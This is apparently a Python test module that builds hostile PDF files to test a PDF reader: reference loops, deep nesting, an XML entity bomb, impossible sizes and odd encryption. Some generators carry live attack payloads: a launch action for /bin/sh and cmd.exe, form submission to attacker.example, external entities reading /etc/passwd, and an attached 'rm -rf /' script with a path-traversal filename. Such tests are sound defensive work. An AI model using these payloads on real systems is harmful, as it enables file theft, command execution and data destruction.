"""Hostile PDF files: loops and depths in the structure, what a PDF carries along, encryption."""

from __future__ import annotations

import io

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, NumberObject

from tests.hostile.archives import contract
from tests.hostile.kinds import READ, kind
from tests.hostile.raw_pdf import FREE, catalog, document, flate, start_of_table, stream, words, written


def outline_loop(number: int) -> bytes:
    """Bookmarks whose next one is an earlier one."""
    length = number + 1
    items = {
        FREE + 1 + at: b"<< /Title (a) /Parent 10 0 R /Next %d 0 R >>" % (FREE + 1 + (at + 1) % length)
        for at in range(length)
    }
    root = b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>"
    return written(document(number, {1: catalog(b"/Outlines 10 0 R"), FREE: root, **items}))


def outline_deep(number: int) -> bytes:
    """Bookmarks in bookmarks, thousands of levels."""
    depth = 1000 * (number + 1)
    items = {
        FREE + 1 + at: b"<< /Title (a) /Parent %d 0 R /First %d 0 R /Last %d 0 R >>"
        % (FREE + at, FREE + 2 + at, FREE + 2 + at)
        for at in range(depth)
    }
    root = b"<< /Type /Outlines /First 11 0 R /Last 11 0 R >>"
    return written(document(number, {1: catalog(b"/Outlines 10 0 R"), FREE: root, **items}))


def prev_loop(number: int) -> bytes:
    """A table of contents that names itself as the one before."""
    plain = written(document(number))
    return plain.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start_of_table(plain))


def prev_cycle(number: int) -> bytes:
    """Tables of contents that name one another in a circle."""
    content = written(document(number))
    first = start_of_table(content)
    entry, at = first, first
    for _ in range(2 + number * 20):
        at = len(content)
        content += b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %010d >>\n" % entry
        entry = at
    content += b"startxref\n%d\n%%%%EOF\n" % at
    return content.replace(b"/Root 1 0 R  >>", b"/Root 1 0 R /Prev %d >>" % at, 1)


def xref_stream_loop(number: int) -> bytes:
    """A cross-reference stream that names itself as the one before."""
    body = written(document(number))
    body = body[: start_of_table(body)]
    at = len(body)
    places = [0, *(body.index(b"%d 0 obj" % name) for name in range(1, 6)), at]
    table = b"".join((b"\0" if not place else b"\1") + place.to_bytes(4, "big") + b"\0" for place in places)
    entries = b"/Type /XRef /W [1 4 1] /Index [0 7] /Size 7 /Root 1 0 R /Prev %d" % at
    return body + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(table, entries), at)


def object_stream_loop(number: int) -> bytes:
    """A stream of objects that extends itself and claims to hold itself."""
    inside = b"10 0 11 5 (a) (b)"
    entries = b"/Type /ObjStm /N %d /First 10 /Extends 10 0 R" % (2 + number * 1000)
    return written(document(number, {1: catalog(b"/Names 11 0 R"), FREE: stream(inside, entries)}))


def self_reference(number: int) -> bytes:
    """Objects that are nothing but a pointer to themselves, in places that are looked at."""
    keys = (b"/Names", b"/AcroForm", b"/OpenAction", b"/Outlines", b"/PageLabels", b"/Metadata")
    loop = {FREE + at: b"%d 0 R" % (FREE + (at + 1) % (number + 1)) for at in range(number + 1)}
    return written(document(number, {1: catalog(b"%s 10 0 R" % keys[number % len(keys)]), **loop}))


def length_loop(number: int) -> bytes:
    """A stream whose length is the stream itself, or a pointer that leads back to it."""
    body = b"<< /Length %d 0 R >>\nstream\n%s\nendstream" % (4 if number % 2 else FREE, words(number))
    return written(document(number, {4: body, FREE: b"4 0 R"}))


def deep_arrays(number: int) -> bytes:
    depth = 500 * 2**number
    return written(document(number, {1: catalog(b"/Names " + b"[" * depth + b"]" * depth)}))


def deep_dictionaries(number: int) -> bytes:
    depth = 300 * 2**number
    return written(document(number, {1: catalog(b"/Names " + b"<< /A " * depth + b"null" + b" >>" * depth)}))


def metadata_entities(number: int) -> bytes:
    """XMP whose entities would fill the memory."""
    lines = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10 if at else "boom" * 10}">' for at in range(8 + number))
    xml = f"<?xml version='1.0'?><!DOCTYPE x [{lines}]><x:xmpmeta xmlns:x='adobe:ns:meta/'>&e{7 + number};</x:xmpmeta>"
    entries = b"/Type /Metadata /Subtype /XML"
    return written(document(number, {1: catalog(b"/Metadata 10 0 R"), FREE: stream(xml.encode(), entries)}))


def recovery_loop(number: int) -> bytes:
    """No table of contents that could be used, and thousands of things that look like objects and trailers."""
    noise = b"".join(
        b"%d 0 obj << /Type /Catalog /Pages %d 0 R >>\ntrailer << /Root %d 0 R >>\n" % (at, at, at)
        for at in range(6, 500 * (number + 1))
    )
    plain = written(document(number))
    return plain[: start_of_table(plain)] + noise + b"startxref\n%d\n%%%%EOF\n" % (99999999 + number)


def huge_numbers(number: int) -> bytes:
    """Counts, sizes and offsets that no file can have."""
    size = (2**31 - 1, 2**31, 2**32, 2**63, 10**30)[number % 5]
    plain = written(document(number)).replace(b"xref\n0 6", b"xref\n0 %d" % (size if number % 2 else 6))
    return plain.replace(b"/Size 6", b"/Size %d" % size)


def encrypted_rc4(number: int) -> bytes:
    """The library draws the salt anew each time, as for the next two."""
    return _encrypted(number, "RC4-128" if number % 2 else "RC4-40")


def encrypted_aes(number: int) -> bytes:
    return _encrypted(number, "AES-256" if number % 2 else "AES-128")


def encrypted_oddly(number: int) -> bytes:
    """An encryption dictionary with values that nobody has defined."""
    writer = PdfWriter(clone_from=io.BytesIO(written(document(number))))
    writer.encrypt("secret", algorithm="AES-256")
    wrong = {"/R": 6 + number, "/V": 4 + number % 3, "/Length": 2 ** (7 + 2 * number), "/P": -(number + 1)}
    assert writer._encrypt_entry is not None
    writer._encrypt_entry.update({NameObject(name): NumberObject(value) for name, value in wrong.items()})
    return _bytes(writer)


def javascript(number: int) -> bytes:
    script = b"<< /S /JavaScript /JS (while \\(true\\) { app.alert\\('%d'\\) }) >>" % number
    entry = (b"/OpenAction %s", b"/AA << /WC %s >>", b"/Names << /JavaScript << /Names [(a) %s] >> >>")[number % 3]
    return written(document(number, {1: catalog(entry % script)}))


def launch(number: int) -> bytes:
    action = (
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /S /GoToR /F (//attacker.example/share/x.pdf) /D [0 /Fit] >>",
        b"<< /S /SubmitForm /F (http://attacker.example/x) >>",
        b"<< /S /URI /URI (file:///etc/passwd) >>",
    )[number % 4]
    return written(document(number, {1: catalog(b"/OpenAction " + action)}))


def forms_of_xml(number: int) -> bytes:
    """XFA, with a script and an external entity in it."""
    xml = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>&e;</xdp:xdp>"
    form = b"<< /Fields [] /XFA [(a) 11 0 R] >>"
    return written(document(number, {1: catalog(b"/AcroForm 10 0 R"), FREE: form, FREE + 1: flate(xml * (number + 1))}))


def embedded_files(number: int) -> bytes:
    """A program or an archive inside."""
    inside = (b"MZ\x90\0" + bytes(2000), contract(), b"#!/bin/sh\nrm -rf /\n")[number % 3]
    writer = PdfWriter(clone_from=io.BytesIO(written(document(number))))
    for at in range(number + 1):
        writer.add_attachment(("../../../etc/cron.d/x", "a.exe", "b.zip")[at % 3], inside)
    writer._info = DictionaryObject()
    return _bytes(writer)


def _encrypted(number: int, algorithm: str) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(written(document(number))))
    writer._ID = None
    writer.encrypt(f"secret {number}", algorithm=algorithm)
    return _bytes(writer)


def _bytes(writer: PdfWriter) -> bytes:
    stream_out = io.BytesIO()
    writer.write(stream_out)
    return stream_out.getvalue()


KINDS = (
    kind(outline_loop, ".pdf", READ),
    kind(outline_deep, ".pdf", READ),
    kind(prev_loop, ".pdf", READ, "broken_file"),
    kind(prev_cycle, ".pdf", READ, "broken_file"),
    kind(xref_stream_loop, ".pdf", READ, "broken_file"),
    kind(object_stream_loop, ".pdf", READ),
    kind(self_reference, ".pdf", READ),
    kind(length_loop, ".pdf", READ, "nothing_to_read"),
    kind(deep_arrays, ".pdf", READ, "broken_file"),
    kind(deep_dictionaries, ".pdf", READ, "broken_file"),
    kind(metadata_entities, ".pdf", READ),
    kind(recovery_loop, ".pdf", READ, "broken_file"),
    kind(huge_numbers, ".pdf", READ, "broken_file"),
    kind(encrypted_rc4, ".pdf", "password_needed"),
    kind(encrypted_aes, ".pdf", "password_needed"),
    kind(encrypted_oddly, ".pdf", "password_needed", "broken_file"),
    kind(javascript, ".pdf", READ),
    kind(launch, ".pdf", READ),
    kind(forms_of_xml, ".pdf", READ),
    kind(embedded_files, ".pdf", READ),
)
